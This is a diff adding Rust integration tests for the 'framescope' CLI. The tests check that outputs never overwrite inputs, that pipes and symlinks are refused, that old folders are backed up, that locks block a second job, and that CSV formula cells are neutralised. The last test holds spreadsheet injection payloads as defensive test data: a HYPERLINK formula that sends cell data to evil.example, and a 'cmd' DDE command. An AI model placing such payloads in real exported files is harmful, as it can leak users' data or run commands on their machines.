@@ -1,0 +1,527 @@
+//! Outputs never destroy inputs or each other (issue 14), through the real binary: outputs on
+//! inputs are refused, write targets that are not regular files are refused, an output
+//! folder is replaced as a whole (the previous one kept as a dated backup), run.json's hashes
+//! match every file, a second job on the same output fails at once naming the first, a full
+//! disk leaves the old folder intact, and CSV cells a spreadsheet would execute are
+//! neutralised.
+
+use assert_cmd::Command;
+use sha2::{Digest, Sha256};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+fn seeds_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds")
+}
+
+fn bin(dir: &Path) -> Command {
+    let mut c = Command::cargo_bin("framescope").unwrap();
+    c.current_dir(dir).arg("--quiet").timeout(Duration::from_secs(300));
+    c
+}
+
+/// (exit code, stderr) of a command run in `dir`.
+fn run(dir: &Path, args: &[&str]) -> (i32, String) {
+    let o = bin(dir).args(args).output().unwrap();
+    (
+        o.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&o.stderr).into_owned(),
+    )
+}
+
+fn copy_seeds(to: &Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for e in std::fs::read_dir(seeds_dir()).unwrap() {
+        let p = e.unwrap().path();
+        std::fs::copy(&p, to.join(p.file_name().unwrap())).unwrap();
+    }
+}
+
+fn sha256(p: &Path) -> String {
+    format!("{:x}", Sha256::digest(std::fs::read(p).unwrap()))
+}
+
+/// Relative path → sha256 of every file under `dir`.
+fn tree(dir: &Path) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                let rel = p.strip_prefix(dir).unwrap().display().to_string();
+                out.push((rel, sha256(&p)));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// Folders beside `out` named `out.<time>`: the backups.
+fn backups(parent: &Path, name: &str) -> Vec<PathBuf> {
+    let mut b: Vec<PathBuf> = std::fs::read_dir(parent)
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| {
+            p.file_name()
+                .unwrap()
+                .to_string_lossy()
+                .starts_with(&format!("{name}.20"))
+        })
+        .collect();
+    b.sort();
+    b
+}
+
+/// run.json lists every file of its folder (run.json aside) with the file's sha256.
+fn run_json_matches_folder(out: &Path) {
+    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(out.join("run.json")).unwrap()).unwrap();
+    let mut listed: Vec<(String, String)> = v["outputs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| {
+            let p = PathBuf::from(o["path"].as_str().unwrap());
+            let rel = p.strip_prefix(out.file_name().unwrap()).unwrap().display().to_string();
+            (rel, o["sha256"].as_str().unwrap().to_string())
+        })
+        .collect();
+    listed.sort();
+    let actual: Vec<_> = tree(out).into_iter().filter(|(p, _)| p != "run.json").collect();
+    assert_eq!(listed, actual, "run.json's outputs vs the files in {}", out.display());
+}
+
+#[test]
+fn an_output_is_never_written_onto_an_input() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    copy_seeds(&d.join("arts"));
+    std::fs::write(
+        d.join("arts/sentences.csv"),
+        "id,title,text\nx,T,\"Kyiv said talks resumed.\"\n",
+    )
+    .unwrap();
+    let before = tree(&d.join("arts"));
+    let article = "arts/004_994e15704f090877.txt";
+    assert!(d.join(article).is_file());
+    for (args, want) in [
+        (
+            vec!["run", "--seeds", "arts", "--out", "arts"],
+            "arts: is an input (arts)",
+        ),
+        (
+            vec!["run", "--seeds", "arts", "--out", "arts/out"],
+            "arts/out: lies inside the input folder arts",
+        ),
+        (
+            vec!["run", "--seeds", "arts/004_994e15704f090877.txt", "--out", "."],
+            "cannot use as output folder: it holds the current directory",
+        ),
+        (
+            vec!["train", "--model", article, "arts"],
+            "lies inside the input folder arts",
+        ),
+        (vec!["train", "--model", article, article], "is an input"),
+    ] {
+        let (code, err) = run(d, &args);
+        assert_eq!(code, 2, "{args:?}: {err}");
+        let last = err.lines().last().unwrap_or("");
+        assert!(
+            last.starts_with("framescope: error: ") && last.contains(want),
+            "{args:?}: {err}"
+        );
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert_eq!(tree(&d.join("arts")), before, "{args:?} changed an input");
+    }
+    // A model inside the folder `score` would replace.
+    assert_eq!(
+        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
+    let (code, err) = run(d, &["score", "--model", "out/model.json", "--out", "out", "arts"]);
+    assert_eq!(code, 2);
+    assert!(
+        err.contains("out: the input out/model.json lies inside this output folder"),
+        "{err}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn write_targets_that_are_not_regular_files_are_refused_at_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let fifo = d.join("pipe.json");
+    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+    // SAFETY: a valid NUL-terminated path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
+    std::fs::write(d.join("real.json"), "{}").unwrap();
+    std::os::unix::fs::symlink("real.json", d.join("link.json")).unwrap();
+    std::fs::create_dir(d.join("realdir")).unwrap();
+    std::os::unix::fs::symlink("realdir", d.join("linkdir")).unwrap();
+    let seeds = seeds_dir().display().to_string();
+    for (args, want) in [
+        (
+            vec!["train", "--model", "pipe.json", &seeds],
+            "pipe.json: cannot write here: it is a named pipe (FIFO), not a regular file",
+        ),
+        (
+            vec!["train", "--model", "link.json", &seeds],
+            "link.json: is a symbolic link",
+        ),
+        (
+            vec!["run", "--seeds", &seeds, "--out", "linkdir"],
+            "linkdir: cannot use as output folder: it is a symbolic link",
+        ),
+        (
+            vec!["run", "--seeds", &seeds, "--out", "pipe.json"],
+            "pipe.json: cannot use as output folder: it is a named pipe (FIFO)",
+        ),
+    ] {
+        // The command's timeout (300 s) would catch a hang on the FIFO.
+        let (code, err) = run(d, &args);
+        assert_eq!(code, 2, "{args:?}: {err}");
+        assert!(err.contains(want), "{args:?}: {err}");
+    }
+    assert!(std::fs::symlink_metadata(d.join("link.json"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    assert_eq!(std::fs::read_to_string(d.join("real.json")).unwrap(), "{}");
+}
+
+#[test]
+fn an_output_folder_holds_one_jobs_outputs_and_the_previous_one_is_kept() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    copy_seeds(&d.join("arts"));
+    std::fs::write(
+        d.join("arts/manifest.csv"),
+        "file,outlet\n000_d73d1625d48df82f.txt,Reuters\n001_b842e1f178b2f794.txt,TASS\n",
+    )
+    .unwrap();
+    copy_seeds(&d.join("plain"));
+    // A run with outlets, then a seeds-only run into the same folder.
+    assert_eq!(
+        run(d, &["run", "--seeds", "arts", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
+    assert!(d.join("out/outlets.csv").is_file());
+    let first = tree(&d.join("out"));
+    run_json_matches_folder(&d.join("out"));
+    let (code, err) = run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        !d.join("out/outlets.csv").exists(),
+        "the earlier run's outlets.csv stayed"
+    );
+    run_json_matches_folder(&d.join("out"));
+    let b = backups(d, "out");
+    assert_eq!(b.len(), 1, "{b:?}");
+    assert!(
+        err.contains(&format!("previous contents of out kept as {}", b[0].display()))
+            || err.contains("previous contents of out kept as out.20"),
+        "{err}"
+    );
+    assert_eq!(tree(&b[0]), first, "the backup is the first folder, byte for byte");
+    // The same run again: identical results, no new backup.
+    assert_eq!(
+        run(d, &["run", "--seeds", "plain", "--out", "out", "--bootstrap", "0"]).0,
+        0
+    );
+    assert_eq!(backups(d, "out").len(), 1);
+
+    // `score` into a folder of `run`'s outputs replaces it whole: no report or chart of the
+    // seeds beside the other articles' scores.
+    assert_eq!(run(d, &["train", "--model", "m/model.json", "plain"]).0, 0);
+    let (code, err) = run(
+        d,
+        &[
+            "score",
+            "--model",
+            "m/model.json",
+            "--out",
+            "out",
+            "--bootstrap",
+            "0",
+            "arts",
+        ],
+    );
+    assert_eq!(code, 0, "{err}");
+    let names: Vec<String> = tree(&d.join("out")).into_iter().map(|(p, _)| p).collect();
+    assert!(
+        !names
+            .iter()
+            .any(|n| n == "report.html" || n.starts_with("charts") || n == "model.json"),
+        "{names:?}"
+    );
+    run_json_matches_folder(&d.join("out"));
+    assert_eq!(backups(d, "out").len(), 2);
+    // Nothing else is left beside the folder: no staging folder, no lock.
+    let stray: Vec<String> = std::fs::read_dir(d)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with('.'))
+        .collect();
+    assert!(stray.is_empty(), "{stray:?}");
+    // score's own default folder: `scored`.
+    assert_eq!(
+        run(d, &["score", "--model", "m/model.json", "--bootstrap", "0", "plain"]).0,
+        0
+    );
+    run_json_matches_folder(&d.join("scored"));
+}
+
+/// A JSONL corpus of `n` articles made of seed sentences (a run over it takes a few seconds).
+fn corpus(n: usize) -> String {
+    let mut lines = Vec::new();
+    for e in std::fs::read_dir(seeds_dir()).unwrap() {
+        let t = std::fs::read_to_string(e.unwrap().path()).unwrap();
+        lines.extend(
+            t.lines()
+                .skip(1)
+                .filter(|l| l.split_whitespace().count() > 8)
+                .map(String::from),
+        );
+    }
+    lines.sort();
+    (0..n)
+        .map(|i| {
+            let body: Vec<String> = (0..12)
+                .map(|k| format!("{} Report {i} item {k}.", lines[(i * 7 + k * 13) % lines.len()]))
+                .collect();
+            serde_json::json!({"id": format!("c{i:05}"), "title": format!("Report {i}"), "text": body.join("\n")})
+                .to_string()
+                + "\n"
+        })
+        .collect()
+}
+
+#[test]
+fn a_second_job_on_the_same_output_fails_at_once_naming_the_first() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(d.join("big.jsonl"), corpus(600)).unwrap();
+    let seeds = seeds_dir().display().to_string();
+    let mut first = std::process::Command::new(assert_cmd::cargo::cargo_bin("framescope"))
+        .current_dir(d)
+        .args(["--quiet", "run", "--seeds", &seeds, "--out", "out", "big.jsonl"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let t = std::time::Instant::now();
+    while !d.join(".out.lock").exists() && t.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
+    let still_running = first.try_wait().unwrap().is_none();
+    assert!(
+        still_running,
+        "the first run ended before the second started: test inconclusive"
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains(&format!(
+            "out: in use by another framescope job (pid {} on host",
+            first.id()
+        )),
+        "{err}"
+    );
+    assert!(err.contains("run --seeds"), "the holder's command is named: {err}");
+    // The same for a model being written.
+    let mut trainer = std::process::Command::new(assert_cmd::cargo::cargo_bin("framescope"))
+        .current_dir(d)
+        .args(["--quiet", "train", "--model", "m.json", &seeds, "big.jsonl"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    while !d.join(".m.json.lock").exists() && t.elapsed() < Duration::from_secs(120) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let (code2, err2) = run(d, &["train", "--model", "m.json", &seeds]);
+    let trainer_running = trainer.try_wait().unwrap().is_none();
+    assert!(first.wait().unwrap().success());
+    assert!(trainer.wait().unwrap().success());
+    if trainer_running {
+        assert_eq!(code2, 2, "{err2}");
+        assert!(err2.contains("m.json: in use by another framescope job"), "{err2}");
+    }
+    // The folder is the first run's, whole.
+    run_json_matches_folder(&d.join("out"));
+    // A lock file left by a process that no longer runs does not block.
+    std::fs::write(d.join(".out.lock"), "pid 999999 on host gone: framescope run\n").unwrap();
+    let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(!d.join(".out.lock").exists());
+}
+
+/// Mount a small tmpfs at `at` (root on Linux only); false when the machine does not allow it.
+fn mount_tmpfs(at: &Path, kb: u64) -> bool {
+    std::process::Command::new("mount")
+        .args(["-t", "tmpfs", "-o", &format!("size={kb}k"), "tmpfs"])
+        .arg(at)
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+#[test]
+fn a_full_disk_leaves_the_previous_folder_intact() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(d.join("big.jsonl"), corpus(400)).unwrap();
+    let seeds = seeds_dir().display().to_string();
+    // Size of a seeds-only output folder.
+    assert_eq!(
+        run(d, &["run", "--seeds", &seeds, "--out", "probe", "--bootstrap", "0"]).0,
+        0
+    );
+    let size: u64 = tree(&d.join("probe"))
+        .iter()
+        .map(|(p, _)| std::fs::metadata(d.join("probe").join(p)).unwrap().len())
+        .sum();
+    let disk = d.join("disk");
+    std::fs::create_dir(&disk).unwrap();
+    // Room for the old folder and a bit more, not for a 400-article run beside it.
+    if !mount_tmpfs(&disk, size * 3 / 2 / 1024 + 64) {
+        eprintln!("skipped: cannot mount a tmpfs here (needs root on Linux); the disk-full case was not tested");
+        return;
+    }
+    struct Unmount(PathBuf);
+    impl Drop for Unmount {
+        fn drop(&mut self) {
+            let _ = std::process::Command::new("umount").arg(&self.0).status();
+        }
+    }
+    let _guard = Unmount(disk.clone());
+    let (code, err) = run(&disk, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
+    assert_eq!(code, 0, "the seeds-only output must fit: {err}");
+    let before = tree(&disk.join("out"));
+    let big = d.join("big.jsonl").display().to_string();
+    let (code, err) = run(
+        &disk,
+        &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0", &big],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("No space left on device"), "{err}");
+    assert_eq!(
+        err.lines().filter(|l| l.contains("framescope: error:")).count(),
+        1,
+        "{err}"
+    );
+    assert_eq!(tree(&disk.join("out")), before, "the previous folder changed");
+    // The failed job's staging folder and lock are gone: the space is free again.
+    let left: Vec<String> = std::fs::read_dir(&disk)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(left, ["out"], "{left:?}");
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised_except_with_raw_csv() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let body = "The minister said talks resumed in Kyiv on Friday.\\nNATO allies discussed the Russian invasion threat and sanctions.";
+    let evil_title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let evil_outlet = "+cmd|' /C calc'!A0";
+    let line = |id: &str| {
+        format!(
+            "{{\"id\":{},\"title\":{},\"outlet\":{},\"text\":\"{body}\"}}\n",
+            serde_json::to_string(id).unwrap(),
+            serde_json::to_string(evil_title).unwrap(),
+            serde_json::to_string(evil_outlet).unwrap()
+        )
+    };
+    std::fs::write(d.join("evil.jsonl"), line("@id1") + &line("-2")).unwrap();
+    let seeds = seeds_dir().display().to_string();
+    assert_eq!(
+        run(
+            d,
+            &[
+                "run",
+                "--seeds",
+                &seeds,
+                "--out",
+                "out",
+                "--bootstrap",
+                "0",
+                "evil.jsonl"
+            ]
+        )
+        .0,
+        0
+    );
+    let text = std::fs::read_to_string(d.join("out/scores.csv")).unwrap();
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        "{text}"
+    );
+    assert!(text.contains("'+cmd|' /C calc'!A0"), "{text}");
+    assert!(text.contains("\n'@id1,"), "{text}");
+    // "-2" is a number to a spreadsheet, not a formula: left alone.
+    assert!(text.contains("\n-2,"), "{text}");
+    // No cell of any table starts a formula.
+    for table in ["scores.csv", "sentences.csv", "similarity.csv", "outlets.csv"] {
+        let mut r = csv::Reader::from_path(d.join("out").join(table)).unwrap();
+        for rec in r.records() {
+            for f in rec.unwrap().iter() {
+                let formula =
+                    f.starts_with(['=', '+', '@', '\t', '\r']) || (f.starts_with('-') && f.parse::<f64>().is_err());
+                assert!(!formula, "{table}: {f:?}");
+            }
+        }
+    }
+    // framescope reads its own tables back as they were.
+    let scores = framescope::report::read_scores(&d.join("out/scores.csv")).unwrap();
+    let a = scores.iter().find(|s| s.id == "@id1").expect("id read back");
+    assert_eq!(
+        (a.title.as_deref(), a.outlet.as_deref()),
+        (Some(evil_title), Some(evil_outlet))
+    );
+    let (code, err) = run(d, &["inspect", "@id1", "--out", "out"]);
+    assert_eq!(code, 0, "{err}");
+    // --raw-csv writes cells as they are; --stdout JSON is always raw.
+    assert_eq!(
+        run(
+            d,
+            &[
+                "--raw-csv",
+                "run",
+                "--seeds",
+                &seeds,
+                "--out",
+                "raw",
+                "--bootstrap",
+                "0",
+                "evil.jsonl"
+            ]
+        )
+        .0,
+        0
+    );
+    let raw = std::fs::read_to_string(d.join("raw/scores.csv")).unwrap();
+    assert!(raw.contains("\n@id1,\"=HYPERLINK("), "{raw}");
+    let o = bin(d)
+        .args([
+            "score",
+            "--model",
+            "out/model.json",
+            "--stdout",
+            "--bootstrap",
+            "0",
+            "evil.jsonl",
+        ])
+        .output()
+        .unwrap();
+    let first: serde_json::Value =
+        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
+    assert_eq!(first["article"]["title"], evil_title);
+}
